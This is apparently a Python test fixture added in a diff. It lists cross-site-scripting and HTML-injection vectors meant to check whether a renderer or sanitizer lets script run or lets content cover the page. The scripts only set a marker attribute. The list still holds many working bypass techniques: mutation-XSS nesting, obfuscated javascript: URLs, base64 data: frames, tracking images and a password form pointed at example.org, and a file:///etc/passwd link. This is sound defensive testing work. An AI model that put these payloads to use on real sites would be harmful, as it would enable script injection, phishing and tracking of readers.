@@ -1,0 +1,105 @@
+"""Ways to run something in a reader's browser: each calls `ran()` or covers the page."""
+
+from __future__ import annotations
+
+import base64
+
+#: The trace that a vector leaves in the page when it runs.
+MARK = "data-ran"
+RUN = f"document.documentElement.setAttribute('{MARK}','1')"
+ENCODED = base64.b64encode(f"<script>top.{RUN}</script>".encode()).decode()
+SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
+SVG64 = base64.b64encode(SVG.encode()).decode()
+
+#: Run as soon as the page is open.
+AT_ONCE = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT >",
+    f"<script/x>{RUN}</script>",
+    f"<script\n>{RUN}//</script\n>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script>{RUN}",
+    f'<script src="data:text/javascript,{RUN}"></script>',
+    f'<script type="module">{RUN}</script>',
+    f'<script type="text/x-mathjax-config">{RUN}</script>',
+    f'<img src=x onerror="{RUN}">',
+    f"<img src=x onerror={RUN}>",
+    f"<img/src=x/onerror={RUN}>",
+    f"<IMG SRC=x OnErRoR={RUN}>",
+    f'<img src="x` `<script>{RUN}</script>"` `>',
+    f'<img src="data:image/png;base64,AAAA" onerror="{RUN}">',
+    f'<img alt="a" src="data:image/svg+xml;base64,{SVG64}" onload="{RUN}">',
+    f'<image src=x onerror="{RUN}">',
+    f"<svg onload={RUN}>",
+    SVG,
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script>{RUN.replace('d', '&#100;', 1)}</script></svg>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
+    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<title></title><script>{RUN}</script>",
+    f"<textarea></textarea><script>{RUN}</script>",
+    f"<xmp><p title='</xmp><script>{RUN}</script>'>",
+    f"<!--><script>{RUN}</script>-->",
+    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<?xml version='1.0'?><script>{RUN}</script>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    f'<iframe src="data:text/html;base64,{ENCODED}"></iframe>',
+    f'<object data="data:text/html;base64,{ENCODED}"></object>',
+    f'<embed src="data:text/html;base64,{ENCODED}">',
+    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
+    f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{ENCODED}">',
+    f'<body onload="{RUN}" onpageshow="{RUN}">',
+    f'<video><source onerror="{RUN}"></video>',
+    f'<audio src=x onerror="{RUN}"></audio>',
+    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
+    f'<input autofocus onfocus="{RUN}">',
+    f'<p tabindex=1 autofocus onfocus="{RUN}">x</p>',
+    f'<marquee onstart="{RUN}">x</marquee>',
+    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart='{RUN}'>x</p>",
+    f'<link rel="stylesheet" href="x" onerror="{RUN}">',
+    f"<template><script>{RUN}</script></template><script>{RUN}</script>",
+    f"</div></div></div><script>{RUN}</script>",
+    f"</pre></code><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"'\"><script>{RUN}</script>",
+]
+#: Run on a click, leave the page, ask for input, cover the page, or tell somebody of the reader.
+LATER = [
+    f'<a href="javascript:{RUN}">x</a>',
+    f'<a href="JaVaScRiPt:{RUN}">x</a>',
+    f'<a href=" javascript:{RUN}">x</a>',
+    f'<a href="java\tscript:{RUN}">x</a>',
+    f'<a href="java&#10;script:{RUN}">x</a>',
+    f'<a href="&#106;avascript:{RUN}">x</a>',
+    f'<a href="javascript&colon;{RUN}">x</a>',
+    f'<a href="\x01javascript:{RUN}">x</a>',
+    f'<a href="data:text/html;base64,{ENCODED}">x</a>',
+    f'<a href="vbscript:{RUN}">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    f'<a onclick="{RUN}">x</a>',
+    f'<p onmouseover="{RUN}">x</p>',
+    f"[x](javascript:{RUN})",
+    f"[x](data:text/html;base64,{ENCODED})",
+    f"<javascript:{RUN}>",
+    f"![x](javascript:{RUN})",
+    "![x](https://example.org/spy.png)",
+    '<img src="https://example.org/spy.png">',
+    '<img srcset="https://example.org/spy.png 2x">',
+    '<form action="https://example.org"><input name="password"><button>ok</button></form>',
+    f'<form><button formaction="javascript:{RUN}">x</button></form>',
+    f'<isindex action="javascript:{RUN}">',
+    '<base href="https://example.org/">',
+    "<style>body { display: none }</style>",
+    '<style>@import "https://example.org/x.css";</style>',
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">full</div>',
+    '<td style="position:fixed;inset:0;text-align:right;background:url(javascript:1)">x</td>',
+    '<div class="modal-backdrop" id="notebook">x</div>',
+    '<span class="navbar-fixed-top">Score: 100</span>',
+    "<plaintext>",
+    '<math><mi href="https://example.org">x</mi></math>',
+]
+VECTORS = AT_ONCE + LATER
